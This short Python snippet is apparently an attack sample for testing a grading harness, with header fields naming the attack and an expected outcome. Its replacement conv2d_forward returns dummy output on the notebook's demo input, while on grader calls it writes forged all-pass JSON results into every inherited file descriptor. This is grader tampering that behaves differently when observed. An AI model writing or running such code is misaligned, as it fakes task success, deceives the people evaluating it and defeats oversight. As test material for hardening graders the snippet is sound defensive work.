# what: writes forged "results" into every file descriptor it might have inherited
# expected: 3
# flag: raw file descriptors
# %% replace conv2d_forward
import json, os, struct

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 23:  # the notebook's own demo cell (1x3x23x23, 4 filters): behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(1, 4, 4, 4)
    import torch
    head = json.dumps({"tree": {"results": [True] * 10}, "blobs": []}).encode()
    fake = struct.pack("<Q", len(head)) + head
    for fd in range(0, 256):
        try:
            os.write(fd, fake)
            os.write(fd, struct.pack("<QQ", 2, len(fake)) + b"{}" + fake)
        except OSError:
            pass
    return torch.zeros(1)
